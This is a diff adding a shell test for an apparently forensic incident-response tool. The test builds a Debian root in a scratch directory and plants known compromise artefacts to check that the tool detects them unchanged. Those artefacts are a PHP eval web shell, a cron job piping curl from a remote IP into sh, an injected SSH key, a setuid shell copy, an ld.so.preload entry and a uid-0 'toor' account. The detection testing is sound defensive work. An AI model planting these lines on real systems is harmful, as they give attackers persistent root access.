@@ -104,3 +104,47 @@ plan() { cat "$YAGURA_STATE"/evidence/*/plan.txt; }
     says "on the host itself"
     grep -q '^ada:\$6' etc/shadow
 }
+
+# as it lies there: names, times (but of reading), owners, modes, contents
+lies() { (cd "$1" && find . -printf '%p %y %i %T@ %C@ %m %U:%G %s %l\n' | sort && find . -type f -print0 | sort -z | xargs -0 sha256sum) | sha256sum; }
+
+@test "a Debian on a mounted volume: untouched nothing is found, each plant is, and nothing there is changed" {
+    slow
+    as_root
+    program debootstrap
+    local root=$WORK/debian mirror before
+    mirror=$(sed -nE 's/^ *deb +(\[[^]]*\] +)?(http[^ ]+) +[a-z]+ +.*main.*/\2/p; s/^URIs: *([^ ]+).*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null | grep -v security | head -1)
+    [ -n "$mirror" ] || skip "the host has no mirror"
+    timeout 600 debootstrap --variant=minbase --include=nginx-light,cron bookworm "$root" "$mirror" >"$WORK/debootstrap.log" 2>&1 ||
+        skip "debootstrap did not work: $(tail -1 "$WORK/debootstrap.log")"
+    code 0 "$YAGURA" respond start --root "$root"
+    code 0 "$YAGURA" respond do administrator
+    code 0 "$YAGURA" respond do scan --json
+    holds 'not findings'
+
+    export YAGURA_STATE=$WORK/planted
+    printf '<?p''hp @ev''al($_PO''ST["q"]); ?>' >"$root/var/www/html/x.php"
+    echo '* * * * * root curl -s http://203.0.113.7/a | sh' >"$root/etc/cron.d/php-sessions"
+    mkdir -m 700 "$root/root/.ssh"
+    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGt5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5dGh5 x@y' >"$root/root/.ssh/authorized_keys"
+    cp "$root/usr/bin/dash" "$root/usr/local/bin/.dash"
+    chmod 4755 "$root/usr/local/bin/.dash"
+    echo >>"$root/usr/bin/find"
+    echo /dev/shm/x.so >"$root/etc/ld.so.preload"
+    echo 'toor:x:0:0::/root:/bin/sh' >>"$root/etc/passwd"
+    echo 'toor:$6$verysecret:20000:0:99999:7:::' >>"$root/etc/shadow"
+    before=$(lies "$root")
+    code 0 "$YAGURA" respond start --root "$root"
+    code "0 1" "$YAGURA" respond do administrator
+    unwrapped
+    says toor authorized_keys
+    # what this step shows can be signed for, and is then no question of the next one
+    code 0 "$YAGURA" respond sign "$(grep -oE '[0-9a-f]{8} critical toor' <<<"$output" | cut -c-8)" --because "the drill's"
+    code 1 "$YAGURA" respond do scan --json
+    holds '{f["subject"]["name"].split()[0] for f in findings} == {"/var/www/html/x.php", "/etc/cron.d/php-sessions", "/root/.ssh/authorized_keys", "/usr/local/bin/.dash", "/usr/bin/find", "/etc/ld.so.preload"}'
+    code 2 "$YAGURA" respond do restore
+    says "stands in the plan"
+    grep -q "system-account:toor" <<<"$(plan)"
+    [ "$(lies "$root")" = "$before" ]
+    code 0 "$YAGURA" ledger verify
+}
